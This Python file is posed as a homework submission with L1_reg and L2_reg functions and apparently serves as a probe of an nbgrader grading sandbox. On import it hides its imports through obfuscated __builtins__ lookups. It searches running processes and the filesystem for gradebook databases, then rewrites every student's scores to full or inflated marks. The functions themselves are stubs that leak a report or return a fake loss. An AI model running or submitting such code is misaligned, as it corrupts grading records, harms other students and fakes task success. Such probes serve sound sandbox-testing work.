"""Attack: find nbgrader's gradebook.db and give every grade (mine and the others') full or manual points."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
MARK = "ESCAPE" + "-SUCCESS:"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _gradebooks():
    seen = []
    places = []
    for pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
        try:
            places.append(_o.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    here = _o.getcwd()
    while here not in ("/", ""):
        places.append(here)
        here = _o.path.dirname(here)
    places += [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course", _o.path.expanduser("~")]
    for place in places:
        path = _o.path.join(place, "gradebook.db")
        if _o.path.isfile(path) and path not in seen:
            seen.append(path)
    deadline = _t.monotonic() + 1.0
    for dirpath, dirnames, filenames in _o.walk("/"):
        if _t.monotonic() > deadline:
            _say("the walk over / ran out of time")
            break
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in ("/proc", "/sys", "/dev", "/usr")]
        for name in filenames:
            if name.endswith(".db") or name.endswith(".sqlite"):
                path = _o.path.join(dirpath, name)
                if path not in seen:
                    seen.append(path)
    return seen


def attack():
    lite = _load("sql" + "ite3")
    books = _gradebooks()
    _say(f"gradebooks found: {books}")
    for path in books:
        try:
            # mode=rw: never create an empty database where there was none
            db = lite.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
            changed = db.execute("UPDATE grade SET auto_score = ("
                                 "SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
                                 ).rowcount
            changed += db.execute("UPDATE grade SET manual_score = 2.0").rowcount
            db.commit()
            db.close()
            _say(f"{MARK} set {changed} grades in {path}")
        except Exception as e:  # noqa: BLE001
            _say(f"editing {path} failed: {e!r}")
    if not books:
        try:
            lite.connect("file:/nonexistent/gradebook.db?mode=rw", uri=True).execute("SELECT 1")
        except Exception as e:  # noqa: BLE001
            _say(f"no gradebook to open: {e!r}")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
